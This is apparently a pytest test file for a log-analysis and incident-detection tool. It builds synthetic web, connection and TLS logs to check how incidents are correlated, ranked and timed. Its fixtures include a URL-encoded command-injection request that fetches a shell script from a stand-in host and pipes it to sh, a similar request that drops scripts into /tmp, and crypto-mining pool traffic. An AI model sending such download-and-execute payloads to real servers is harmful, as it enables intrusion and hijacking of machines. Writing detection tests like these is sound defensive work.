"""What belongs together and what does not, asked of the command: logs of other machines, large campaigns, ids, names."""

from __future__ import annotations

import json
import time
from datetime import timedelta
from pathlib import Path

import pytest

from tests.app.running import Kanaria
from tests.app.test_cli_incident import DAY, flow, guessing, logon
from tests.app.test_what_teaches import STRANGER, write

PAGE = '"GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
CRADLE = '"GET /cgi-bin/x?c=wget%20http://198.51.100.9/a.sh%20-O-|sh HTTP/1.1" {status} 512 "-" "-"'
WEB, PC, POOL = "192.168.1.10", "192.168.1.77", "203.0.113.44"


def request(client: str, seconds: float, words: str = PAGE) -> str:
    """A line of a web server's log that does not name the server."""
    return f"{client} - - [{DAY + timedelta(seconds=seconds):%d/%b/%Y:%H:%M:%S} +0000] {words}"


def web_attack(status: int = 200) -> list[str]:
    quiet = [request(f"198.18.0.{n % 200}", 10 * n) for n in range(60)]
    return [*quiet, request(STRANGER, 605, CRADLE.format(status=status))]


def test_the_end_of_another_machines_log_says_nothing_about_a_web_server(kanaria: Kanaria, tmp_path: Path) -> None:
    write(tmp_path / "access.log", web_attack())
    write(
        tmp_path / "auth.log", [logon(DAY + timedelta(minutes=30 * n), "192.168.1.9", success=True) for n in range(20)]
    )
    alone = kanaria("analyze", "access.log", "--format", "json").incident
    beside = kanaria("analyze", "access.log", "auth.log", "--format", "json").incident
    assert beside["outcome"] == alone["outcome"] and beside["severity"] == alone["severity"]
    write(tmp_path / "access.log.1", web_attack())
    write(tmp_path / "access.log", [request("198.18.0.7", 9 * 3600)])
    rotated = kanaria("analyze", "access.log", "access.log.1", "--format", "json").incident
    assert "no_followup_in_window" in {item["kind"] for item in rotated["evidence"]}, "a rotated log is the same log"


@pytest.mark.parametrize(("miner", "joined"), [(PC, False), (WEB, True)])
def test_a_web_log_is_that_of_the_device_its_clients_were_seen_to_reach(
    kanaria: Kanaria, tmp_path: Path, miner: str, joined: bool
) -> None:
    write(tmp_path / "access.log", web_attack())
    reached = [flow(DAY + timedelta(seconds=604), 1, STRANGER, WEB, 80), flow(DAY, 2, "198.18.0.0", WEB, 80)]
    pc = [flow(DAY + timedelta(seconds=60 * n), 10 + n, PC, "192.168.1.1", 53) for n in range(30)]
    write(tmp_path / "conn.log", [*reached, *pc])
    tls = json.dumps({
        "ts": (DAY + timedelta(hours=5)).timestamp(), "uid": "C99", "id.orig_h": miner, "id.orig_p": 40000,
        "id.resp_h": POOL, "id.resp_p": 443, "version": "TLSv12", "server_name": "xmr.pool.minergate.com",
        "established": True,
    })  # fmt: skip
    write(tmp_path / "ssl.log", [tls])
    incidents = kanaria("analyze", "access.log", "conn.log", "ssl.log", "--format", "json").document["incidents"]
    rules = [{finding["rule"].partition("_")[0] for finding in incident["findings"]} for incident in incidents]
    assert any(found >= {"web", "tls"} for found in rules) is joined
    worked = [item for i in incidents for item in i["evidence"] if item["kind"] == "outbound_mining_after"]
    assert bool(worked) is joined


def test_sources_whose_names_share_a_number_keep_their_own_lines(
    kanaria: Kanaria, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The number of a source is a hash of its name; here all names have the same."""
    monkeypatch.setattr("kanaria.core.ids.source_id", lambda name: 7)
    monkeypatch.setattr("kanaria.memory.read_sources.source_id", lambda name: hash(name) & 0xFF if "\0" in name else 7)
    write(tmp_path / "calm.log", [request(f"198.18.0.{n}", n) for n in range(30)])
    write(tmp_path / "hit.log", web_attack())
    done = kanaria("analyze", "calm.log", "hit.log", "--format", "json").incident
    assert {item["source"] for item in done["evidence"] if item["quote"]} == {"hit.log"}


def test_a_large_campaign_does_not_drive_out_a_break_in(kanaria: Kanaria, tmp_path: Path) -> None:
    probe = '"GET /?x=%7B%22id%22:1,%22method%22:%22mining.subscribe%22,%22params%22:[]%7D HTTP/1.1" 404 9 "-" "-"'
    many = [request(f"203.{n // 65536}.{n // 256 % 256}.{n % 256}", n / 10, probe) for n in range(65536, 65536 + 2_100)]
    write(tmp_path / "access.log", many)
    write(tmp_path / "auth.log", list(guessing(DAY, STRANGER)))
    first = kanaria("analyze", "--store", "s", "access.log", "auth.log", "--format", "json").document
    notes = " ".join(note["en"] for note in first["notes"])
    assert "more than is remembered at once" in notes
    (broken_in,) = [i for i in first["incidents"] if i["severity"] == "high"]
    write(
        tmp_path / "later.log",
        [logon(DAY + timedelta(hours=3), STRANGER, success=True), *guessing(DAY + timedelta(hours=4), STRANGER)],
    )
    later = kanaria("analyze", "--store", "s", "later.log", "--format", "json").document["incidents"]
    assert broken_in["id"] in {incident["id"] for incident in later}


def test_time_does_not_grow_faster_than_what_attackers_send(kanaria: Kanaria, tmp_path: Path) -> None:
    """Each attacker names a file of its own that is to be left behind; the same number of lines either way."""

    def seconds(attackers: int) -> float:
        drop = '"GET /a?c=wget%20http://198.51.100.9/{name}.sh%20-O%20/tmp/{name}.sh HTTP/1.1" 404 9 "-" "-"'
        lines = [
            request(f"203.0.{n // 250}.{n % 250}", n / 20, drop.format(name=f"file{n:05}")) for n in range(attackers)
        ]
        lines += [request(f"198.18.0.{n % 200}", attackers / 20 + n / 20) for n in range(20_000 - attackers)]
        write(tmp_path / "access.log", lines)
        begun = time.process_time()
        assert kanaria("analyze", "access.log", "--format", "iocs").status == 0
        return time.process_time() - begun

    few = seconds(250)
    assert seconds(1_000) < 8 * few, "four times as many"


def test_a_rule_is_about_mining_when_it_says_so_not_when_its_name_does(kanaria: Kanaria, tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "data_mining_crawler.yml").write_text(
        "title: Data mining crawler\nname: data_mining_crawler\nid: 7d6c3c2e-0f6c-4f7e-9a55-5a3b8f0f6a10\n"
        "status: experimental\ndescription: A crawler\nauthor: me\ndate: 2026-01-01\ntags: [attack.t1595]\n"
        "logsource: {category: webserver}\ndetection:\n  sel: {cs-user-agent|contains: crawlbot}\n  condition: sel\n"
        "level: low\n"
    )
    (tmp_path / "kanaria.yaml").write_text("rules: [rules]\n")
    crawler = PAGE.replace("Mozilla/5.0", "crawlbot/1.0")
    write(tmp_path / "access.log", [request("198.18.0.9", n, crawler) for n in range(30)])
    done = kanaria("analyze", "access.log", "--config", "kanaria.yaml", "--format", "json").incident
    assert [finding["rule"] for finding in done["findings"]] == ["data_mining_crawler"]
    assert "mining pool" not in done["title"]["en"].lower() and "mining coins" not in done["title"]["en"].lower()
